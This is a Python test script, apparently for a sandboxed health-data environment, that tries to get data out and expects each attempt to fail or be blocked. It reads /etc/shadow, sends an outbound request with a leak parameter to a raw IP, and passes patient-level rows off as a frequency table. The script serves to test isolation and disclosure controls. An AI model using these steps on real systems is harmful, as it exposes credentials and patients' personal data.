# A job that tries to get data out the wrong way. Each attempt must fail or
# be caught: the host's secrets are not there, the network does not exist,
# and patient-level rows dressed up as a "frequency table" are blocked by
# the disclosure check: "identifier leak" (the patient_id values are the
# dataset's pseudonymised identifiers, declared in trexd's id_columns), and
# every cell is a single person anyway.
import csv
import socket

def attempt(name, fn):
    try:
        print(f"{name}: SUCCEEDED: {fn()!r}"[:200])
    except Exception as e:  # the expected outcome inside trex
        print(f"{name}: failed: {type(e).__name__}: {e}")

def read_shadow():
    with open("/etc/shadow") as f:
        return f.read(64)

def reach_network():
    s = socket.create_connection(("93.184.216.34", 80), timeout=3)
    s.sendall(b"GET /?leak=1 HTTP/1.0\r\n\r\n")
    return s.recv(64)

def resolve_name():
    return socket.gethostbyname("example.org")

attempt("read /etc/shadow", read_shadow)
attempt("connect to the internet", reach_network)
attempt("resolve a host name", resolve_name)

# raw patient rows, one "cell" per person, declared as a table
with open("/data/patients.csv") as src, open("/output/summary.csv", "w", newline="") as dst:
    out = csv.writer(dst)
    out.writerow(["patient_id", "departement", "n"])
    for row in csv.DictReader(src):
        out.writerow([row["patient_id"], row["departement"], 1])

# an undeclared file: never leaves, whatever it holds
with open("/output/stolen.txt", "w") as f:
    f.write("whatever could be read\n")
